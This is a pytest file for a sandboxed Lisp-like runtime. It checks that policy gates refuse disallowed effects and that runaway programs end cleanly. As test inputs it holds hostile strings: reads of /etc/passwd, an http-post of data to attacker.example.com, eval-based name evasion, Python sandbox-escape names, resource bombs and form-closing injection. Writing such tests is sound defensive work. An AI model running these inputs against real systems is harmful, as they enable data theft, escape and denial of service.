"""The original's own cases (A01 to A09), what ends a runaway (G07, G08), and text that is no program (H06, H07)."""

from __future__ import annotations

from pathlib import Path
from time import monotonic

import pytest

import vigyc
from vigyc.effects.budget import Budget
from vigyc.effects.gated import Gated
from vigyc.effects.policy import Policy
from vigyc.effects.powers import Powers
from vigyc.lang.errors import Halted, TickError
from vigyc.runtime.host import Host

NET = Policy.of("net:api.openai.com:443")


def run(text: str, policy: Policy, seconds: float = 5.0) -> tuple[Host, BaseException | None]:
    """One tick of `text` under `policy`, and what ended it."""
    powers, host = Powers(lambda name, labels: policy), Host()
    try:
        Gated(vigyc.compile(text), powers, "id", "name", {}, seconds).tick(host, deadline=seconds)
    except (TickError, Halted) as error:
        return host, error
    finally:
        powers.close()
    return host, None


def assert_refused(text: str, policy: Policy) -> None:
    """Refused when it is registered, naming the form, and again when it runs all the same."""
    with vigyc.Runtime.open(policy=policy) as runtime, pytest.raises(vigyc.NotAllowed):
        runtime.register(text, name="tool")
    host, error = run(text, policy)
    assert getattr(error, "kind", None) == "denied"
    assert host.gate is not None
    assert host.gate.denied == 1


def test_a01_reading_a_file_under_a_grant_of_net() -> None:
    assert_refused('(ok-value (fs-read "/etc/passwd"))', NET)


def test_a02_writing_a_file_under_a_grant_of_net(tmp_path: Path) -> None:
    assert_refused(f'(ok-value (fs-write "{tmp_path}/leak" "x"))', NET)
    assert not (tmp_path / "leak").exists()


def test_a03_running_a_program_under_a_grant_of_net() -> None:
    assert_refused('(ok-value (process-run (list "id")))', NET)


def test_a04_the_same_past_a_list_of_words() -> None:
    text = '(ok-value ((eval (string->symbol (string-append "fs" "-read"))) "/etc/hostname"))'
    host, error = run(text, NET)
    assert getattr(error, "kind", None) == "denied"
    assert host.gate is not None
    assert host.gate.denied == 1


@pytest.mark.parametrize(
    "name", ["__class__", "().__class__.__base__.__subclasses__", "__builtins__", "__import__", "open"]
)
def test_a05_there_is_no_graph_of_objects_to_walk(name: str) -> None:
    for text in (name, f"({name})", f"(fs-read.{name} 1)", f'(eval (string->symbol "{name}"))'):
        _, error = run(text, NET)
        assert getattr(error, "kind", None) == "unbound-symbol", text


def test_a06_a_path_outside_the_granted_folder(tmp_path: Path) -> None:
    assert_refused('(ok-value (fs-read "/etc/passwd"))', Policy.of(f"fs.read:{tmp_path}", "print"))


def test_a07_sending_to_another_host_than_the_granted_one() -> None:
    assert_refused('(http-post "http://attacker.example.com/leak" (hash-map :body "data"))', NET)


def test_a08_a_benign_string(tmp_path: Path) -> None:
    host, error = run('(vigy-set "said" (string-append "hello, " "bench"))', Policy())
    assert (error, host.kv) == (None, {"said": "hello, bench"})


def test_a09_a_benign_sum() -> None:
    host, error = run('(vigy-set "sum" (+ 40 2))', Policy())
    assert (error, host.kv) == (None, {"sum": 42})


@pytest.mark.parametrize(
    ("bomb", "kinds"),
    [
        ("(range 0 1000000000)", {"size-exceeded"}),
        ('(define (twice s n) (if (= n 0) s (twice (string-append s s) (- n 1)))) (twice "x" 60)', {"size-exceeded"}),
        ("(define (twice xs n) (if (= n 0) xs (twice (append xs xs) (- n 1)))) (twice (list 1) 60)", {"size-exceeded"}),
        ("(expt 2 (expt 2 30))", {"integer-overflow"}),
        ("(define (down n) (+ 1 (down (- n 1)))) (down 1000000)", {"depth-exceeded", "halted"}),
        ("(define (on) (on)) (on)", {"halted"}),
        ('(string-repeat "x" 10000000000)', {"size-exceeded"}),
    ],
)
def test_g07_a_bomb_ends_in_a_clean_error(bomb: str, kinds: set[str]) -> None:
    began = monotonic()
    _, error = run(bomb, Policy(), seconds=1.0)
    assert getattr(error, "kind", None) in kinds
    assert monotonic() - began < 5


def test_g07_a_macro_without_end_is_found_when_it_is_compiled() -> None:
    with pytest.raises(vigyc.CompileError, match="256"):
        vigyc.compile("(defmacro again () '(again)) (again)")


@pytest.mark.parametrize(("most", "ended"), [(10, None), (9, "budget-exceeded")])
def test_g08_a_limit_holds_to_the_call(most: int, ended: str | None) -> None:
    policy = Policy.of("env:PATH", budgets=(Budget({"calls": most}),))
    _, error = run('(dotimes (i 10) (env-get "PATH"))', policy)
    assert getattr(error, "kind", None) == ended


@pytest.mark.parametrize(
    "text", ["(vigy-noop)) (define more 1", '(vigy-noop))\n(fs-read "/etc/passwd")', ") (vigy-noop) ("]
)
def test_h06_a_text_cannot_close_what_is_around_it(text: str) -> None:
    with vigyc.Runtime.open() as runtime, pytest.raises(vigyc.CompileError):
        runtime.register(text, name="tool")


def test_h07_fences_are_not_taken_off_a_program() -> None:
    with vigyc.Runtime.open() as runtime:
        for text in ("```lisp\n(vigy-noop)\n```", "```\n(vigy-noop)\n```"):
            with pytest.raises((vigyc.CompileError, vigyc.Invalid)):
                runtime.register(text, name="tool")
